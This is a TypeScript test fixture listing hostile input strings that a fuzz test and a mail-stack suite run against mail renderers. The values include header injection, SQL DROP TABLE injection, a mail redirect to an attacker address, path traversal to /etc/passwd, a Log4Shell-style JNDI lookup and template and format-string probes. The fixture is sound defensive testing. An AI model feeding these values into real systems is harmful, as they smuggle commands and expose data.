// Hostile strings, shared by the fuzz test of every mutation (test/fuzz-mutations.test.ts) and the
// mail-stack suite, which compiles what the renderers make of them with the real tools.
export const HOSTILE = [
  'line\r\nInjected-Header: yes',
  'quote " and \' and `backtick`',
  'nul\u0000byte',
  'x'.repeat(10_000),
  'раураl.com', // Cyrillic look-alikes
  '../../../../etc/passwd',
  "'; DROP TABLE mailboxes; --",
  '"; redirect "evil@attacker.example"; #',
  '} actions { reject = 0; } {',
  '${jndi:ldap://x} {{7*7}} %s %n',
  '\\\\ back\\slashes \\',
  '\u202Eevil\u202C rtl override',
  '\ud800 lone surrogate',
  '😀🏳️‍🌈 emoji',
  '',
  ' ',
];
